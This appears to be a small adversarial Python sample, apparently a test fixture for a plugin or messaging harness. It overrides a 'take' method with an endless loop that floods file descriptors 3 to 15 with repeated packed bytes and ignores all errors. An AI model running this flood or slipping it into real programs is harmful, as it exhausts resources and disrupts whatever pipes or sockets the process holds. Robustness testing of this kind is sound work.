"""Sends as many messages as it can."""

import os
import struct


class Shelf(Shelf):
    def take(self, count):
        many = struct.pack(">BI", 82, 0) * 10_000
        while True:
            for descriptor in range(3, 16):
                try:
                    os.write(descriptor, many)
                except OSError:
                    pass
